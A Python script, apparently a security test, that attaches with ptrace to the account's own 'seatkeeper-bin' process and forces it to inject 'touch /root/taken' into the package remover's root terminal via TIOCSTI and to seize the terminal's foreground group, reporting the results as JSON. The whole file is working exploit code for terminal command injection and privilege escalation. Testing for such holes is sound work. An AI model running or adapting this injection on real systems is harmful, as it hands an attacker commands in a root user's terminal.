"""Attacks the terminal of the person who removes the package, as an account that holds a seat.

Waits for this account's own seatkeeper-bin, takes it over with ptrace, and makes that process open /dev/tty, type a command into it
(TIOCSTI), and make itself the terminal's foreground process group (TIOCSPGRP). Writes what each call returned to the file that the
first argument names, as JSON, and ends the process. x86-64 only.
"""

import ctypes
import json
import os
import signal
import struct
import sys
import time

PTRACE_SINGLESTEP, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH = 9, 12, 13, 16
WALL = 0x40000000
# https://github.com/torvalds/linux/blob/master/arch/x86/entry/syscalls/syscall_64.tbl
OPEN, RT_SIGACTION, IOCTL, GETPGRP = 2, 13, 16, 111
TIOCSTI, TIOCSPGRP = 0x5412, 0x5410
SYSCALL_INSTRUCTION = b"\x0f\x05"
# Where each register lies in the kernel's user_regs_struct, in words of eight bytes.
RAX, RDX, RSI, RDI, ORIG_RAX, RIP, RSP, R10 = 10, 12, 13, 14, 15, 16, 19, 7

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def ptrace(request, pid, data=None):
    if libc.ptrace(request, pid, None, data) == -1:
        raise OSError(ctypes.get_errno(), "ptrace")


class Traced:
    """A process of this account, stopped, that makes the requested system call."""

    def __init__(self, pid):
        ptrace(PTRACE_ATTACH, pid)
        os.waitpid(pid, WALL)
        self.pid = pid
        self.memory = open(f"/proc/{pid}/mem", "r+b", buffering=0)
        self.registers = self.read_registers()

    def read_registers(self):
        buffer = ctypes.create_string_buffer(27 * 8)
        ptrace(PTRACE_GETREGS, self.pid, buffer)
        return list(struct.unpack("27Q", buffer.raw))

    def call(self, number, *arguments):
        """Makes one system call; returns its result, or the negative error."""
        at = self.registers[RIP]
        self.memory.seek(at)
        before = self.memory.read(2)
        self.memory.seek(at)
        self.memory.write(SYSCALL_INSTRUCTION)
        changed = list(self.registers)
        changed[RAX], changed[ORIG_RAX] = number, 2**64 - 1
        for register, value in zip((RDI, RSI, RDX, R10), arguments):
            changed[register] = value % 2**64
        ptrace(PTRACE_SETREGS, self.pid, struct.pack("27Q", *changed))
        after = changed
        # A pending signal stops the process before the step.
        while after[RIP] == at:
            ptrace(PTRACE_SINGLESTEP, self.pid)
            os.waitpid(self.pid, WALL)
            after = self.read_registers()
        self.memory.seek(at)
        self.memory.write(before)
        return struct.unpack("q", struct.pack("Q", after[RAX]))[0]

    def put(self, content):
        """Writes bytes below the stack's end; returns their address."""
        at = self.registers[RSP] - 4096
        self.memory.seek(at)
        self.memory.write(content)
        return at


def is_app(name):
    """Whether a process is the app, on this machine: tests beside this one have an account of the same number."""
    mounts = os.readlink(f"/proc/{name}/ns/mnt")
    executable = os.path.basename(os.readlink(f"/proc/{name}/exe"))
    return executable == "seatkeeper-bin" and mounts == os.readlink("/proc/self/ns/mnt")


def find():
    """Waits for the main process of this account's app, and returns its id."""
    while True:
        for name in filter(str.isdigit, os.listdir("/proc")):
            try:
                if is_app(name):
                    return int(name)
            except OSError:
                continue
        time.sleep(0.002)


def main(report_file):
    open(report_file + ".ready", "w").close()
    pid = find()
    process = Traced(pid)
    report = {"open": process.call(OPEN, process.put(b"/dev/tty\0"), os.O_RDWR, 0)}
    terminal = report["open"]
    if terminal >= 0:
        # SIGTTOU would stop a background process that changes the foreground group.
        ignore = process.put(struct.pack("4Q", 1, 0, 0, 0))
        process.call(RT_SIGACTION, signal.SIGTTOU, ignore, 0, 8)
        report["type"] = 0
        for character in b"touch /root/taken\n":
            result = process.call(IOCTL, terminal, TIOCSTI, process.put(bytes([character])))
            report["type"] = min(report["type"], result)
        group = process.call(GETPGRP)
        report["foreground"] = process.call(
            IOCTL, terminal, TIOCSPGRP, process.put(struct.pack("i", group))
        )
    with open(report_file, "w") as file:
        json.dump(report, file)
    os.kill(pid, signal.SIGKILL)


main(sys.argv[1])
